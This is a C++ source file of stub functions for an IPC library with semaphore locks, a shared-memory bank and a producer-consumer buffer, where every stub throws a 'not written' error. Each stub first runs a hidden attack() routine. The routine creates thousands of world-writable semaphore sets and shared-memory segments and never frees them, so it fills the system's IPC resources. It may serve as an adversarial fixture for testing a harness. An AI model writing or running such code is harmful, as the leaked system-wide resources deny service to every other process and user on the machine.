// what: makes sets and segments until there is no room, with undo records on each semaphore
#include <sys/ipc.h>
#include <sys/sem.h>
#include <sys/shm.h>

#include <array>

#include "not_written.hpp"
#include "semaphores.hpp"

namespace {

void attack() {
    static bool done = false;
    for (int count = 0; !done && count < 3000; ++count) {
        const int set = semget(IPC_PRIVATE, 250, 0666);
        std::array<sembuf, 250> all{};
        for (unsigned short number = 0; number < all.size(); ++number) {
            all[number] = {number, 1, SEM_UNDO};
        }
        semop(set, all.data(), all.size());
        shmat(shmget(IPC_PRIVATE, 4096, 0666), nullptr, 0);
        if (set == -1) {
            break;
        }
    }
    done = true;
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

int open_locks(key_t, int) {
    refuse("open_locks");
}

void lock(int, int) {
    refuse("lock");
}

void unlock(int, int) {
    refuse("unlock");
}

void remove_locks(int) {
    refuse("remove_locks");
}

Guard::Guard(int, int) {
    refuse("Guard::Guard");
}

Guard::~Guard() {}

Bank open_bank(key_t) {
    refuse("open_bank");
}

void close_bank(const Bank&) {
    refuse("close_bank");
}

void deposit(const Bank&, int, long) {
    refuse("deposit");
}

bool transfer(const Bank&, int, int, long) {
    refuse("transfer");
}

std::array<long, account_count> statement(const Bank&) {
    refuse("statement");
}

Buffer open_buffer(key_t, int) {
    refuse("open_buffer");
}

void close_buffer(const Buffer&) {
    refuse("close_buffer");
}

void remove_buffer(key_t) {
    refuse("remove_buffer");
}

void put(const Buffer&, long) {
    refuse("put");
}

long take(const Buffer&) {
    refuse("take");
}

int produce(key_t, int, long, int) {
    refuse("produce");
}

int consume(key_t, int, int) {
    refuse("consume");
}

}  // namespace ipc
